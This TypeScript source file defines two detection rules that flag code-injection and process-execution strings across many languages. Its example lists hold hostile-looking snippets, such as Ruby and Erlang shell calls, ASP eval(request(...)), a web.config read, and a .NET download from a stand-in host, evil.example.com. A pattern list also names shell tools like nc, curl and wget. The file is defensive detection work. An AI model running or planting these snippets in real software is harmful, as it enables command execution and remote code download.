import { compileSequences, findSequence, rated } from '../../placement/code-sequence.ts';
import { confidence } from '../../placement/confidence.ts';
import { foundBy } from '../../placement/evidence.ts';
import { charClass } from '../../text/char-class.ts';
import { wordList } from '../../text/words.ts';
import type { ValueRule } from '../rule.ts';

/** Elixir, Erlang, Go, Rust, Perl, Lisp, .NET, Rhino …: `System.cmd("id", [])`, `os:cmd("id")`. */
export const processCall: ValueRule = {
  id: 'code.process-call',
  score: confidence.strong,
  message: 'starts a process, or reaches the classes that do, in one of many languages',
  trigger: {
    literals: [
      [
        ...wordList(
          'objectspace. .cmd( os:cmd os.cmd open_port port.open eval_string clojure.java run-program',
          'run-shell shell-command send( method( __send__ .method( const_get open("|',
        ),
        "open('|",
        'os :cmd',
        ...wordList(
          'exec.command syscall.exec loadlib packages. java.lang.system java.type',
          'javaimporter gettype assembly. createinstance execshell executeshell execcmd',
          'shell("',
        ),
        "shell('",
        ...wordList('command::new process.run deno. bun.spawn codetype __code__ _g["'),
        "_g['",
        ...wordList('run(` usr.bin libc. webclient io.file. startinfo( process] assembly]'),
      ],
    ],
  },
  judge: (subject) => findSequence(subject, sequences),
  examples: [
    'System.cmd("id", [])',
    'os:cmd("id").',
    'os :cmd("id").',
    'Kernel.send(:system, "id")',
    'Packages.java.lang.System.exit(0)',
    '"".GetType().Assembly.GetType("System.Diagnostics.Process")',
    ...["Object.send(:`,'id')", 'ObjectSpace.each_object(Class).first'],
    'exec.Command("sh", "-c", "id").Output()',
    'open("|id").read',
    '(lambda:0).__code__.__class__(0,0)',
    '(uiop:run-program "id")',
    'new System.Net.WebClient().DownloadFile("http://evil.example.com/a","a")',
    '[Diagnostics.Process]::Start("calc")',
    '[Reflection.Assembly]::Load($bytes)',
    '@Html.Raw(System.IO.File.ReadAllText("web.config"))',
    'new ProcessStartInfo("cmd.exe")',
  ],
  lookalikes: [
    'The System.cmd function of Elixir starts a program',
    'ObjectSpace.each_object is a method of Ruby',
    'It leaks, as ObjectSpace.each_object(String).count tells me. Why?',
    'Why is ObjectSpace.each_object(Class).select so slow in our tests?',
    'send(:message) is called on the socket',
    'obj.GetType().Name is what I need',
    'Deno.serve is the new server of Deno',
    'Process.run and Process.start are alike',
    'const server = await Deno.readTextFile("./a.txt")',
    'open("|") fails',
    'In C# I wrote new WebClient().DownloadFile(url, "a.zip") to get it',
    'var client = new WebClient().DownloadString(url);',
    'the [Process]::Start method of .NET',
  ],
};

const programs =
  'id|sh|bash|zsh|cmd|powershell|pwsh|cat|ls|whoami|uname|curl|wget|nc|ncat|ping|sleep|touch|rm|echo|calc|nslookup|env|hostname|dir';
const rubyRunners =
  'system|exec|eval|instance_eval|class_eval|spawn|open|fork|syscall|const_get|load|require';

const sequences = compileSequences([
  ...rated(
    { score: confidence.certain },
    "clojure . java . shell / sh '",
    `send|public_send|__send__ ( : ${rubyRunners} ,`,
    `send|public_send|__send__ ( ' ${rubyRunners} ' ,`,
    'send|public_send|__send__ ( : ` ,',
    `method ( : ${rubyRunners} ) . call|unbind|to_proc`,
    `open ( ' | ${programs}`,
    "package . loadlib ( '",
    "java . type ( ' java|javax",
    'gettype ( ) . assembly . *',
    'assembly . load ( convert',
    'createinstance ( type . gettypefromprogid',
  ),
  ...rated(
    { score: confidence.certain, inProse: confidence.hint },
    "os : cmd ( '",
    'diagnostics . process ] : : start (',
    'reflection . assembly ] : : load|loadfrom|loadfile|loadwithpartialname (',
  ),
  ...rated(
    { score: confidence.strong },
    "open ( ' | /",
    "_g [ ' os|io|load|loadstring|require|debug",
  ),
  ...rated(
    { score: confidence.strong, inProse: confidence.hint },
    'objectspace . each_object ( class|module ) . find|detect|select|map {',
    'objectspace . each_object ( class|module ) . first|to_a',
    "system . cmd ( '",
    "system . shell ( '",
    "os . cmd ( '",
    "os . cmd ( ~ c '",
    'erlang : open_port|halt (',
    'port . open ( {',
    "code . eval_string|eval_quoted|eval_file ( '",
    'uiop : run - program',
    'ext : run - program|shell',
    "shell - command - to - string '",
    'const_get ( : kernel|file|io|process|open3',
    `exec . command|commandcontext ( ' ${programs}`,
    "exec . command ( ' /",
    "syscall . exec|forkexec ( '",
    'packages . java|javax|org|com|sun . *',
    'java . lang . system . getproperty|getenv|exit|load (',
    'javaimporter ( *',
    "webclient ( ) . downloadfile|downloadstring|downloaddata|openread ( '",
    'system . io . file . readalltext|readalllines|readallbytes|writealltext|delete|copy (',
    "processstartinfo ( ' cmd|powershell|sh|bash|/",
    "gettype ( ' system . diagnostics|io|reflection|runtime|activator",
    "assembly . load|loadfrom|loadfile|unsafeloadfrom ( '",
    `execshell|executeshell|execcmd|execcmdex|execprocess ( '`,
    `shell ( ' ${programs}`,
    `command : : new ( ' ${programs}`,
    `process . run|runsync ( ' ${programs}`,
    'deno . run|command ( *',
    'bun . spawn|spawnsync ( *',
    '__code__ . __class__|replace|co_code|co_consts',
    'codetype ( * , *',
    `run ( \` ${programs}`,
    'libc . system|execve ( *',
  ),
  ...rated(
    { score: confidence.strong, inProse: confidence.trace },
    "shell - command '",
    'gettype ( ) . getmethod|getmethods|invokemember (',
    "activator . createinstance ( '",
  ),
  { pattern: 'clojure . java . shell|io', score: confidence.likely, inProse: confidence.trace },
]);

/** Ruby, Lua, Groovy, .NET: `IO.popen("id")`, `os.execute("id")`, `"id".execute().text` */
export const scriptCall: ValueRule = {
  id: 'code.script-call',
  score: confidence.strong,
  message: 'runs a command from Ruby, Lua, Groovy or .NET code',
  trigger: {
    classes: charClass.paren,
    literals: [
      [
        ...wordList('io.popen io.read io.binread kernel. os.execute .execute( execute('),
        ...wordList('executeglobal eval(request'),
        ...['execute (', 'execute request', 'eval request', 'eval (request'],
        ...wordList(
          'instance_eval class_eval module_eval constantize open3. process.start',
          'createobject wscript activexobject response.write loadstring dofile file.read',
          'file.open',
        ),
      ],
    ],
  },
  judge: (subject) =>
    findSequence(subject, scriptSequences) ?? foundBy(executedString.exec(subject.text)),
  examples: [
    'IO.popen("id").read',
    'Kernel.exec("id")',
    'os.execute("id")',
    "local f = assert(io.popen(args.cmd, 'r'))",
    'x = "id".execute()',
    '"id".execute().text',
    'System.Diagnostics.Process.Start("cmd.exe","/c id")',
    'Response.Write(12*34)',
    'CreateObject("WScript.Shell").Run("calc")',
  ],
  lookalikes: [
    'Lua has os.execute() and io.popen()',
    'the stored procedure is run with query.execute()',
    'db.select("a").execute()',
    'cursor.execute("see the manual")',
    'The kernel (5.10) is old',
    'new Date("2020").execute',
    'Win32Exception\n   at System.Diagnostics.Process.Start(ProcessStartInfo startInfo)\n   at A.B()',
  ],
};

/** `Start(ProcessStartInfo info)`: a line of a trace names the method with its parameters. */
const signature = /^(?!(?:New|Not|Await) )[A-Z]\w{0,60}(?:\[\])? [a-z]\w{0,40}[,)]/;

const scriptSequences = compileSequences([
  {
    pattern: 'system . diagnostics . process . start (',
    score: confidence.certain,
    unless: signature,
  },
  ...rated(
    { score: confidence.certain },
    'execute ( ) . text|gettext',
    "createobject|activexobject ( ' wscript . shell",
    "createobject ( ' shell . application",
    'execute|executeglobal|eval ( request (',
    'execute|eval request (',
    'eval ( request . item',
  ),
  ...rated(
    { score: confidence.strong },
    'io . popen ( [',
    'assert|local ( io . popen ( *',
    "createobject ( ' scripting . filesystemobject",
    'response . write ( # * # )',
    'response . write ( request',
  ),
  ...rated(
    { score: confidence.strong, inProse: confidence.hint },
    "io . popen|read|readlines|binread|sysopen ( '",
    // Lua, with what a request holds.
    'io . popen ( * . *',
    'io . popen ( * )',
    "kernel . exec|system|open|spawn|fork|eval|load|require ( '",
    "open3 . capture2|capture2e|capture3|popen2|popen3 ( '",
    "os . execute ( '",
    "instance_eval|class_eval|module_eval|constantize ( '",
    "file . read|open|readlines ( ' /",
    "process . start ( '",
  ),
  { pattern: "loadstring|dofile ( '", score: confidence.likely, inProse: confidence.hint },
  { pattern: "response . write ( '", score: confidence.likely, inProse: confidence.trace },
]);

/** Groovy's `"id".execute()`: a method that no other language gives to a string. */
const executedString = /["'\]] {0,2}\.execute\(\)/;
